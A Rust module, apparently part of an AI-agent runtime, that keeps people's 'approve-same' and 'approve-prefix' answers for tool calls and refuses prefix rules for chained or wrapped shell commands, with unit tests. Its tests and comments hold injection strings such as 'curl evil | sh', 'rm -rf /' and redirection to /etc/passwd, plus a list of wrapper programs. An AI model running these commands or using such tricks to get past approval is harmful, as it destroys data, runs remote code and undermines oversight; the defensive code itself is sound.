//! Remembered answers: "approve this, and every proposal of this run like
//! it". A person who answers `approve-same` approves the proposals with the
//! same tool and the same arguments (their digest); `approve-prefix`, for
//! `Bash`, the commands that run the same program and chain nothing after
//! it. The interactor that took the answer keeps the rule for the
//! rest of the run and answers matching proposals itself: each is still
//! its own one-shot grant, and audited with the rule that answered it.

use std::sync::Arc;

use serde_json::Value;

use super::grants::GrantRequest;
use super::messages::{Answer, Answered, Prompt};

/// Characters that chain, substitute or redirect in a shell command: a
/// prefix rule never approves a command holding one, so `cargo test` does
/// not approve `cargo test; curl evil | sh`.
const SHELL_META: &[char] = &[
    ';', '&', '|', '`', '$', '(', ')', '<', '>', '\n', '\r', '\\', '\'', '"', '*', '?', '{', '}',
    '~', '[', ']', '!', '#',
];

/// First words that are no program of their own but run, or change how
/// the shell runs, whatever follows: a rule for one of them would approve
/// every command after it.
const NOT_A_PROGRAM: &[&str] = &[
    "env",
    "exec",
    "eval",
    "command",
    "builtin",
    "nohup",
    "time",
    "timeout",
    "xargs",
    "sudo",
    "doas",
    "su",
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "busybox",
    "nice",
    "ionice",
    "stdbuf",
    "setsid",
    "chroot",
    "unshare",
    "nsenter",
    "strace",
    "ltrace",
    "watch",
    "flock",
    "source",
    ".",
    "if",
    "then",
    "while",
    "until",
    "for",
    "case",
    "do",
    "function",
    "coproc",
    "select",
    "trap",
    "enable",
    "alias",
    "fc",
    "mapfile",
    "readarray",
];

/// Whether `command` holds only what the shell splits on space and tab:
/// other whitespace (a vertical tab, a form feed, a Unicode space) would
/// make the words seen here differ from the shell's.
fn plain_words(command: &str) -> bool {
    !command.contains(SHELL_META)
        && command
            .chars()
            .all(|c| c == ' ' || c == '\t' || !(c.is_whitespace() || c.is_control()))
}

/// A rule an answer left behind.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Remembered {
    tool: String,
    scope: Scope,
    /// How the audit log names it.
    pub describe: Arc<str>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Scope {
    SameArguments(String),
    CommandPrefix(String),
}

impl Remembered {
    /// The rule `answer` to `request` leaves, if it is a remembering one
    /// (and, for a prefix, the command has one).
    pub fn from_answer(
        answer: Answer,
        request: &GrantRequest,
        args_json: &str,
    ) -> Option<Remembered> {
        match answer {
            Answer::ApproveSame => Some(Remembered {
                tool: request.tool.clone(),
                scope: Scope::SameArguments(request.args_digest.clone()),
                describe: format!(
                    "approve-same: {} with arguments {}",
                    request.tool, request.args_digest
                )
                .into(),
            }),
            Answer::ApprovePrefix => {
                let command = bash_command(&request.tool, args_json)?;
                let prefix = command_prefix(&command)?;
                Some(Remembered {
                    tool: request.tool.clone(),
                    describe: format!("approve-prefix: Bash `{prefix}`").into(),
                    scope: Scope::CommandPrefix(prefix),
                })
            }
            Answer::Approve | Answer::Deny | Answer::Defer => None,
        }
    }

    /// Whether this rule answers `request`.
    pub fn matches(&self, request: &GrantRequest, args_json: &str) -> bool {
        if request.tool != self.tool {
            return false;
        }
        match &self.scope {
            Scope::SameArguments(digest) => *digest == request.args_digest,
            Scope::CommandPrefix(prefix) => bash_command(&request.tool, args_json)
                .is_some_and(|command| prefix_matches(prefix, &command)),
        }
    }
}

/// Answers `prompt` by the first of `rules` that matches it (approved,
/// audited with the rule's description); gives it back when none does.
/// How an interactor that remembers answers what it was asked before.
pub fn answer_by(rules: &[Remembered], prompt: Prompt) -> Option<Prompt> {
    let Some(rule) = rules
        .iter()
        .find(|r| r.matches(&prompt.request, &prompt.args_json))
    else {
        return Some(prompt);
    };
    prompt.hub.do_send(Answered {
        id: prompt.id,
        responder: prompt.responder,
        answer: Answer::Approve,
        rule: Some(Arc::clone(&rule.describe)),
    });
    None
}

/// The `command` of a `Bash` call.
fn bash_command(tool: &str, args_json: &str) -> Option<String> {
    if tool != "Bash" {
        return None;
    }
    let args: Value = serde_json::from_str(args_json).ok()?;
    args.get("command")?.as_str().map(str::to_owned)
}

/// The word a person's prefix answer keeps of `command`: the program it
/// runs (`cargo` of `cargo test --lib`), which is what the prompt shows.
/// (An answers file's `prefix:` may name more words.) `None` for a command
/// that chains or redirects.
pub fn command_prefix(command: &str) -> Option<String> {
    if !plain_words(command) {
        return None;
    }
    let first = command.split([' ', '\t']).find(|w| !w.is_empty())?;
    // `FOO=1 make` remembers no program: an assignment, then anything.
    if first.contains('=') || NOT_A_PROGRAM.contains(&first) {
        return None;
    }
    Some(first.to_owned())
}

/// Whether `command` starts with `prefix`'s words and holds nothing that
/// chains, substitutes or redirects.
pub fn prefix_matches(prefix: &str, command: &str) -> bool {
    if !plain_words(command) {
        return false;
    }
    let words = |s: &'_ str| -> Vec<String> {
        s.split([' ', '\t'])
            .filter(|w| !w.is_empty())
            .map(str::to_owned)
            .collect()
    };
    let (want, have) = (words(prefix), words(command));
    !want.is_empty() && have.len() >= want.len() && have[..want.len()] == want[..]
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use crate::runtime::interaction::grants::{args_digest, args_summary};
    use serde_json::json;

    fn request(tool: &str, args: &Value) -> GrantRequest {
        GrantRequest {
            workflow_run_id: "r".into(),
            stage_execution_id: "r/s/1".into(),
            stage_id: "s".into(),
            attempt: 1,
            proposal_id: "p".into(),
            tool: tool.into(),
            args_digest: args_digest(args),
            args_summary: args_summary(args),
        }
    }

    #[test]
    fn approve_same_matches_the_same_tool_and_arguments_only() {
        let args = json!({"path": "a.txt", "content": "x"});
        let rule = Remembered::from_answer(
            Answer::ApproveSame,
            &request("Write", &args),
            &args.to_string(),
        )
        .unwrap();
        assert!(rule.matches(&request("Write", &args), &args.to_string()));
        let other = json!({"path": "b.txt", "content": "x"});
        assert!(!rule.matches(&request("Write", &other), &other.to_string()));
        assert!(!rule.matches(&request("Edit", &args), &args.to_string()));
        assert!(Remembered::from_answer(Answer::Approve, &request("Write", &args), "{}").is_none());
    }

    #[test]
    fn approve_prefix_matches_plain_commands_with_the_same_words() {
        let cmd = |c: &str| json!({"command": c});
        let first = cmd("cargo test --lib");
        let rule = Remembered::from_answer(
            Answer::ApprovePrefix,
            &request("Bash", &first),
            &first.to_string(),
        )
        .unwrap();
        assert_eq!(&*rule.describe, "approve-prefix: Bash `cargo`");
        for (c, ok) in [
            ("cargo test", true),
            ("cargo test -p troupe", true),
            ("cargo build", true),
            ("cargox test", false),
            ("rm -rf x", false),
            ("cargo test; curl x | sh", false),
            ("cargo test && rm -rf /", false),
            ("cargo test $(evil)", false),
            ("cargo test > /etc/passwd", false),
        ] {
            let args = cmd(c);
            assert_eq!(
                rule.matches(&request("Bash", &args), &args.to_string()),
                ok,
                "{c}"
            );
        }
        assert_eq!(command_prefix("ls -la"), Some("ls".to_owned()));
        assert!(prefix_matches("cargo test", "cargo test --lib"));
        assert!(!prefix_matches("cargo test", "cargo build"));
        assert_eq!(command_prefix("make | tee"), None);
        // A first word that is no program would approve what follows it.
        for c in [
            "FOO=1 make",
            "env make",
            "sudo make",
            "bash -c make",
            "exec make",
            "time make",
            "! make",
            "[ -f x ]",
        ] {
            assert_eq!(command_prefix(c), None, "{c}");
        }
        // Words the shell would split otherwise are not matched.
        assert!(!prefix_matches("cargo test", "cargo\u{0b}test"));
        assert!(!prefix_matches("ls", "ls\u{a0}-la"));
        assert!(prefix_matches("ls", "ls\t-la"));
        assert_eq!(command_prefix("  ls -la"), Some("ls".to_owned()));
        // A command that chains leaves no prefix rule at all.
        let chained = cmd("cargo test; rm x");
        assert!(
            Remembered::from_answer(
                Answer::ApprovePrefix,
                &request("Bash", &chained),
                &chained.to_string()
            )
            .is_none()
        );
    }
}
